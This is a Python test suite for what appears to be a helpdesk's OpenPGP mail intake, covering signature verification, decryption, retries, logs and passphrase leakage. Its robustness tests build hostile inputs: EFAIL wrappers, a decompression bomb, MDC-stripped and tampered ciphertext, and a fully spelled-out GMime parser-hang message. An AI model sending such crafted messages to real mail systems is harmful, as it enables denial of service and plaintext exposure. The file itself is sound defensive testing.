def test_two_keys_one_uid_signed_with_the_older_good(t):
    c = corpus(t)
    keys = c.same_uid_keys()
    msg = m_signed_same_uid_old(c)
    for label in ("old", "new"):
        t.import_key(keys[label]["pub"])
    a, r = incoming(t, msg)
    expect_sign(a, r, "good", GOOD, signer=keys["old"]["fpr"], uid=SAME_UID)


# ============================================================================ inline PGP


@incoming_test
def test_inline_clearsigned_gpg_good(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_inline_clearsigned_gpg(corpus(t)))
    expect_sign(a, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)
    expect_enc(a, r, "none")
    expect_mime_contains(t, a, marker("inline_clearsigned_gpg"))


@incoming_test
def test_inline_clearsigned_sq_good(t):
    customers(t, "ed_plain")
    a, r = incoming(t, m_inline_clearsigned_sq(corpus(t)))
    expect_sign(a, r, "good", GOOD, signer=t.keys["ed_plain"].fingerprint)
    expect_mime_contains(t, a, marker("inline_clearsigned_sq"))


@incoming_test
def test_inline_signed_message_gpg_good(t):
    customers(t, "rsa3072")
    a, r = incoming(t, m_inline_signed_gpg(corpus(t)))
    expect_sign(a, r, "good", GOOD, signer=t.keys["rsa3072"].fingerprint)
    expect_enc(a, r, "none")
    expect_mime_contains(t, a, marker("inline_signed_gpg"))


@incoming_test
def test_inline_signed_message_sq_good(t):
    customers(t, "rsa4096")
    a, r = incoming(t, m_inline_signed_sq(corpus(t)))
    expect_sign(a, r, "good", GOOD, signer=t.keys["rsa4096"].fingerprint)
    expect_enc(a, r, "none")
    expect_mime_contains(t, a, marker("inline_signed_sq"))


@incoming_test
def test_inline_clearsigned_tampered_bad(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_inline_clearsigned_tampered(corpus(t)))
    expect_sign(a, r, "bad", INVALID)


@incoming_test
def test_inline_encrypted_gpg_decrypted(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_inline_encrypted_gpg(corpus(t)))
    expect_enc(a, r, "decrypted", "", key=t.keys["ed_pw"].fingerprint)
    expect_sign(a, r, "none")
    expect_mime_contains(t, a, marker("inline_encrypted_gpg"))


@incoming_test
def test_inline_encrypted_sq_decrypted(t):
    helpdesk(t, "ed_plain")
    a, r = incoming(t, m_inline_encrypted_sq(corpus(t)))
    expect_enc(a, r, "decrypted", "", key=t.keys["ed_plain"].fingerprint)
    expect_mime_contains(t, a, marker("inline_encrypted_sq"))


@incoming_test
def test_inline_signed_and_encrypted_gpg(t):
    helpdesk(t, "rsa3072")
    customers(t, "ed_pw")
    a, r = incoming(t, m_inline_sign_encrypt_gpg(corpus(t)))
    expect_enc(a, r, "decrypted", "", key=t.keys["rsa3072"].fingerprint)
    expect_sign(a, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)
    expect_mime_contains(t, a, marker("inline_sign_encrypt_gpg"))


@incoming_test
def test_inline_ciphertext_with_text_around_partial_not_decrypted(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_inline_encrypted_text_around(corpus(t)))
    expect_enc(a, r, "partial")
    expect_sign(a, r, "none")
    expect_not_revealed(t, a, marker("inline_encrypted_text_around"))


@incoming_test
def test_inline_clearsigned_with_text_around_partial(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_inline_clearsigned_text_around(corpus(t)))
    expect_sign(a, r, "partial")
    expect_enc(a, r, "none")


@incoming_test
def test_inline_two_ciphertexts_partial_not_decrypted(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_inline_two_ciphertexts(corpus(t)))
    expect_enc(a, r, "partial")
    expect_not_revealed(t, a, marker("inline_two_ciphertexts"))


# ============================================================================ encryption


def _decrypted(t, build, recipient, signer=None):
    msg = build(corpus(t))
    helpdesk(t, recipient)
    if signer:
        customers(t, signer)
    a, r = incoming(t, msg)
    expect_enc(a, r, "decrypted", "", key=t.keys[recipient].fingerprint)
    e = enc_of(a)
    expect_eq(e["protection"], "cfb-mdc", "security.encryption.protection", r)
    expect(isinstance(e["cipher"], str) and e["cipher"], "cipher should be named", r)
    if signer:
        expect_sign(a, r, "good", GOOD, signer=t.keys[signer].fingerprint,
                    uid=t.keys[signer].user_ids[0])
    else:
        expect_sign(a, r, "none")
    name = build.__name__[2:]
    expect_mime_contains(t, a, marker(name))
    raw = show(t, a["id"], "--raw")
    expect_eq(raw.outb, msg, "article show --raw (the message as received)", raw)
    expect(marker(name).encode() not in raw.outb, "the raw message should hold ciphertext only")
    return a


@incoming_test
def test_encrypted_gpg_ed25519_decrypted(t):
    _decrypted(t, m_enc_gpg_ed, "ed_pw")


@incoming_test
def test_encrypted_gpg_rsa_decrypted(t):
    _decrypted(t, m_enc_gpg_rsa, "rsa3072")


@incoming_test
def test_encrypted_sq_ed25519_decrypted(t):
    _decrypted(t, m_enc_sq_ed, "ed_plain")


@incoming_test
def test_encrypted_sq_rsa_decrypted(t):
    _decrypted(t, m_enc_sq_rsa, "rsa4096")


@incoming_test
def test_signed_then_encrypted_gpg_good_decrypted(t):
    _decrypted(t, m_nested_gpg, "rsa3072", signer="ed_pw")


@incoming_test
def test_signed_then_encrypted_sq_good_decrypted(t):
    _decrypted(t, m_nested_sq, "rsa4096", signer="ed_plain")


@incoming_test
def test_one_pass_sign_encrypt_gpg_good_decrypted(t):
    _decrypted(t, m_onepass_gpg, "rsa3072", signer="ed_pw")


@incoming_test
def test_one_pass_sign_encrypt_sq_good_decrypted(t):
    _decrypted(t, m_onepass_sq, "rsa4096", signer="ed_plain")


@incoming_test
def test_encrypted_helpdesk_only_in_bcc_decrypted(t):
    a = _decrypted(t, m_enc_bcc, "ed_pw")
    expect("helpdesk" not in (a["to"] or "") + (a["cc"] or ""), "the helpdesk is named nowhere")


@incoming_test
def test_two_keys_one_uid_encrypted_to_the_older_decrypted(t):
    c = corpus(t)
    keys = c.same_uid_keys()
    msg = m_enc_same_uid_old(c)
    for label in ("old", "new"):
        t.import_key(keys[label]["sec"], passphrase=SAME_PASSPHRASE)
    a, r = incoming(t, msg)
    expect_enc(a, r, "decrypted", "", key=keys["old"]["fpr"])
    expect_mime_contains(t, a, marker("enc_same_uid_old"))


@incoming_test
def test_encrypted_protected_headers_replace_the_outer_subject(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_enc_protected_headers(corpus(t)))
    expect_enc(a, r, "decrypted")
    expect_eq(a["subject"], "Real subject", "subject", r)
    r = expect_mime_contains(t, a, marker("enc_protected_headers"))
    expect(b"Subject: Real subject" in r.outb, "--mime should show the protected Subject", r)
    expect(b"Subject: ...\r\n" not in r.outb and b"Subject: ...\n" not in r.outb,
           "--mime should not show the outer Subject '...'", r)


@incoming_test
def test_encrypted_to_public_only_key_no_private_key_then_retry(t):
    c = corpus(t)
    msg = m_enc_gpg_ed(c)
    customers(t, "ed_pw")
    a, r = incoming(t, msg)
    expect_enc(a, r, "no_private_key", NO_PRIVATE_KEY)
    expect_not_revealed(t, a, marker("enc_gpg_ed"), db=False)
    helpdesk(t, "ed_pw")
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], True, "improved", r)
    expect_enc(b, r, "decrypted", "", key=t.keys["ed_pw"].fingerprint)
    expect_mime_contains(t, b, marker("enc_gpg_ed"))


@incoming_test
def test_one_pass_unknown_signer_then_retry_good(t):
    """Decrypted, but the signer's key is missing; after it is imported retry badges both."""
    helpdesk(t, "rsa3072")
    a, r = incoming(t, m_onepass_gpg(corpus(t)))
    expect_enc(a, r, "decrypted")
    expect_sign(a, r, "no_public_key", NO_PUBLIC_KEY)
    customers(t, "ed_pw")
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], True, "improved", r)
    expect_enc(b, r, "decrypted")
    expect_sign(b, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)


@incoming_test
def test_retry_after_the_key_was_deleted_keeps_the_better_result(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_enc_gpg_ed(corpus(t)))
    expect_enc(a, r, "decrypted")
    t.ok("key", "delete", t.keys["ed_pw"].fingerprint)
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], False, "improved", r)
    expect_enc(b, r, "decrypted")
    expect_mime_contains(t, b, marker("enc_gpg_ed"))


@incoming_test
def test_encrypted_to_unknown_key_no_private_key(t):
    helpdesk(t, "rsa3072")
    a, r = incoming(t, m_enc_gpg_ed(corpus(t)))
    expect_enc(a, r, "no_private_key", NO_PRIVATE_KEY)
    expect_not_revealed(t, a, marker("enc_gpg_ed"))


@incoming_test
def test_encrypted_without_mdc_integrity_failure(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_enc_no_mdc(corpus(t)))
    expect_enc(a, r, "integrity_failure")
    expect_not_revealed(t, a, marker("enc_no_mdc"))


@incoming_test
def test_encrypted_one_flipped_byte_integrity_failure(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_enc_flipped(corpus(t)))
    expect_enc(a, r, "integrity_failure")
    expect_not_revealed(t, a, marker("enc_flipped"))


@incoming_test
def test_encrypted_decompression_bomb_too_large(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_enc_bomb(corpus(t)))
    expect_enc(a, r, "too_large")
    r = show(t, a["id"], "--mime")
    expect(len(r.outb) < 2 * 1024 * 1024, "--mime should not hold the decompressed zeros", r)
    size = sum(os.path.getsize(p) for p in t.db_files())
    expect(size < 16 * 1024 * 1024, "the database should not hold the decompressed zeros "
           "(%d bytes)" % size)


@incoming_test
def test_encrypted_unknown_symmetric_algorithm_unsupported(t):
    helpdesk(t, "rsa3072")
    a, r = incoming(t, m_enc_unknown_cipher(corpus(t)))
    expect_enc(a, r, "unsupported_algorithm")


@incoming_test
def test_efail_wrapper_partial_not_decrypted(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_efail(corpus(t)))
    expect_enc(a, r, "partial")
    expect_sign(a, r, "none")
    expect_not_revealed(t, a, marker("efail"))


@incoming_test
def test_efail_wrapper_around_inline_ciphertext_partial_not_decrypted(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_efail_inline(corpus(t)))
    expect_enc(a, r, "partial")
    expect_not_revealed(t, a, marker("efail_inline"))


@incoming_test
def test_two_encrypted_parts_partial(t):
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_two_encrypted_parts(corpus(t)))
    expect_enc(a, r, "partial")


@incoming_test
def test_forwarded_signed_message_partial(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_forwarded_signed(corpus(t)))
    expect_sign(a, r, "partial")
    expect_enc(a, r, "none")
    expect("attachments" not in a["security"],
           "the forwarded signature.asc is no encrypted attachment: %r"
           % a["security"].get("attachments"), r)


@incoming_test
def test_encrypted_file_attachment_is_decrypted_beside_the_text(t):
    """(lib/incoming.c, commit 5ada462: encrypted attachments *.pgp/*.gpg/*.asc are decrypted
    into files of their own, never into the text, and earn no badge.)"""
    helpdesk(t, "ed_pw")
    a, r = incoming(t, m_encrypted_file_attachment(corpus(t)))
    expect(enc_of(a)["status"] != "decrypted", "the message itself is not encrypted", r)
    expect_eq(a["security"].get("attachments"),
              [{"filename": "notes.txt.gpg", "saved_as": "notes.txt", "status": "decrypted"}],
              "security.attachments", r)
    expect_mime_contains(t, a, marker("encrypted_file_attachment"))


@incoming_test
def test_public_key_attachment_is_left_alone(t):
    a, r = incoming(t, m_public_key_attachment(corpus(t)))
    expect_enc(a, r, "none")
    expect_sign(a, r, "none")
    expect("attachments" not in a["security"], "a key is no encrypted attachment", r)


# ============================================================================ robustness


def gmime_hang_message(ctype):
    name = "\u045c" * 36
    return (b"From: Customer <customer@example.com>\r\nTo: " + HELPDESK.encode() +
            b"\r\nSubject: hang\r\nMessage-ID: <hang@example.com>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: " + ctype.encode() + b";\r\n " + name.encode("utf-8") + b'="' +
            "\u045c".encode("utf-8") + b'"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n'
            b"--x--\r\n")


def _gmime_hang(t, ctype):
    msg = gmime_hang_message(ctype)
    a, r = incoming(t, msg, timeout=30)
    expect(r.seconds < 30, "incoming took %.1f s" % r.seconds, r)
    expect(sign_of(a)["status"] != "good" and enc_of(a)["status"] != "decrypted",
           "a message without a boundary earns no badge", r)
    raw = show(t, a["id"], "--raw")
    expect_eq(raw.outb, msg, "article show --raw", raw)
    show(t, a["id"], "--mime")


@incoming_test
def test_gmime_hang_multipart_mixed_nonascii_parameter(t):
    _gmime_hang(t, "multipart/mixed")


@incoming_test
def test_gmime_hang_multipart_signed_nonascii_parameter(t):
    _gmime_hang(t, "multipart/signed")


@incoming_test
def test_gmime_hang_multipart_encrypted_nonascii_parameter(t):
    _gmime_hang(t, "multipart/encrypted")


HANG_PART = (b"Content-Type: multipart/mixed;\r\n " + ("\u045c" * 36).encode("utf-8") + b'="' +
             "\u045c".encode("utf-8") + b'"\r\n\r\nhello ' + marker("hang").encode() + b"\r\n")


@built
def m_hang_in_signed_part(c):
    sig = c.detach_sign(HANG_PART, "ed_pw")
    return mail.message(mail.headers(c.addr("ed_pw"), HELPDESK, "hang signed", msgid("hangs")),
                        mail.signed(HANG_PART, sig))


@built
def m_hang_in_encrypted_payload(c):
    return encrypted_message(c, "hang_enc", ["ed_pw"], payload=HANG_PART)


@incoming_test
def test_gmime_hang_parameter_inside_signed_part_and_encrypted_payload(t):
    c = corpus(t)
    helpdesk(t, "ed_pw")
    for build in (m_hang_in_signed_part, m_hang_in_encrypted_payload):
        msg = build(c)
        a, r = incoming(t, msg, timeout=30)
        expect(r.seconds < 30, "incoming took %.1f s" % r.seconds, r)
        raw = show(t, a["id"], "--raw")
        expect_eq(raw.outb, msg, "article show --raw", raw)
        r = t.run("article", "show", str(a["id"]), "--mime", timeout=30)
        expect(r.rc == 0, "article show --mime: expected exit 0, got %s" % r.rc, r)


def nested_message(depth):
    body = mail.text_part("deep\r\n")
    for i in range(depth):
        body = mail.multipart("mixed", [body], "nest-%d" % i)
    return mail.message(mail.headers(OTHER, HELPDESK, "deep", msgid("deep")), body)


@incoming_test
def test_mime_nesting_beyond_the_limit_is_stored_with_an_error(t):
    """max_mime_depth is 16: 40 nested multiparts are refused as a whole, yet stored."""
    msg = nested_message(40)
    a, r = incoming(t, msg)
    expect(isinstance(a["security"].get("error"), str) and a["security"]["error"],
           "security.error should say why the message was not processed", r)
    expect_sign(a, r, "none")
    expect_enc(a, r, "none")
    raw = show(t, a["id"], "--raw")
    expect_eq(raw.outb, msg, "article show --raw", raw)


@incoming_test
def test_mime_nesting_within_the_limit_has_no_error(t):
    a, r = incoming(t, nested_message(8))
    expect("error" not in a["security"], "8 levels are within the limit", r)


def _stored_exactly(t, data, via_file=False):
    if via_file:
        path = t.write("input.eml", data)
        r = t.run("incoming", "--json", "--input", path)
        expect(r.rc == 0, "incoming --input: expected exit 0, got %s" % r.rc, r)
        expect(r.errb == b"", "incoming printed to stderr", r)
        a = r.json()
        check_article(a, r)
    else:
        a, r = incoming(t, data)
    raw = show(t, a["id"], "--raw")
    expect(raw.outb == data, "article show --raw should return the %d input bytes exactly (got %d)"
           % (len(data), len(raw.outb)), raw)
    expect(sign_of(a)["status"] in ("none", "malformed") and
           enc_of(a)["status"] in ("none", "malformed"), "garbage earns no badge", r)
    return a


@incoming_test
def test_random_bytes_are_stored_exactly(t):
    data = random.Random(20261128).randbytes(8192)
    _stored_exactly(t, data)


@incoming_test
def test_empty_stdin_is_stored(t):
    _stored_exactly(t, b"")


@incoming_test
def test_zero_byte_file_is_stored(t):
    _stored_exactly(t, b"", via_file=True)


@incoming_test
def test_nul_bytes_and_bad_utf8_in_headers_are_stored_exactly(t):
    data = (b"From: \xff\xfe Bad <bad@example.com>\r\nSubject: nul \x00 byte \xc3\x28\r\n"
            b"\r\nbody \x00 with NUL\r\n")
    _stored_exactly(t, data)


# ============================================================================ log, secrets


@incoming_test
def test_log_has_sign_and_encryption_rows(t):
    helpdesk(t, "rsa3072")
    customers(t, "ed_pw")
    a, r = incoming(t, m_onepass_gpg(corpus(t)))
    expect_enc(a, r, "decrypted")
    expect_sign(a, r, "good")
    r = t.ok("log", "--json")
    rows = r.json()
    expect(isinstance(rows, list), "log --json should be an array", r)
    by_method = {}
    for row in rows:
        for f in ("id", "created_at", "direction", "method", "status", "from_to", "message_id",
                  "detail"):
            expect(f in row, "log row lacks %r: %r" % (f, row), r)
        by_method.setdefault(row["method"], []).append(row)
    expect_eq(sorted(by_method), ["encryption", "sign"], "log methods", r)
    for method, rs in by_method.items():
        expect_eq(len(rs), 1, "log rows for %s" % method, r)
        row = rs[0]
        expect_eq(row["status"], "success", "log %s status" % method, r)
        expect_eq(row["direction"], "in", "log %s direction" % method, r)
        expect("ed.protected@example.com" in row["from_to"] and
               "helpdesk@example.com" in row["from_to"],
               "log %s from_to should name From and To: %r" % (method, row["from_to"]), r)
        expect(row["message_id"] and "onepass-gpg@customer.example" in row["message_id"],
               "log %s message_id: %r" % (method, row["message_id"]), r)
        expect(re.fullmatch(TS, row["created_at"]), "log created_at should be ISO 8601", r)


@incoming_test
def test_no_passphrase_in_any_output(t):
    c = corpus(t)
    helpdesk(t, "rsa3072", "ed_pw")
    outputs = []
    for build in (m_onepass_gpg, m_enc_gpg_ed, m_enc_flipped, m_signed_gpg_ed):
        a, r = incoming(t, build(c))
        outputs.append(r)
        for how in ("--json", "--mime", "--raw"):
            outputs.append(show(t, a["id"], how))
        outputs.append(t.ok("retry", str(a["id"]), "--json"))
    outputs.append(t.ok("log", "--json"))
    for r in outputs:
        check_no_passphrase(t, r)


@incoming_test
def test_librnp_stays_silent_even_with_rnp_log_console_set(t):
    """The library never writes to the terminal, whatever the environment says."""
    c = corpus(t)
    helpdesk(t, "ed_pw")
    for build in (m_enc_flipped, m_enc_no_mdc, m_enc_gpg_rsa, m_enc_unknown_cipher):
        incoming(t, build(c), env={"RNP_LOG_CONSOLE": "1"})
    incoming(t, m_signed_gpg_ed(c).replace(b"on fire", b"on ice!"),
             env={"RNP_LOG_CONSOLE": "1"})


@incoming_test
def test_article_show_json_is_what_incoming_printed(t):
    helpdesk(t, "rsa3072")
    customers(t, "ed_pw")
    a, r = incoming(t, m_nested_gpg(corpus(t)))
    r = show(t, a["id"], "--json")
    expect_eq(r.json(), a, "article show --json", r)
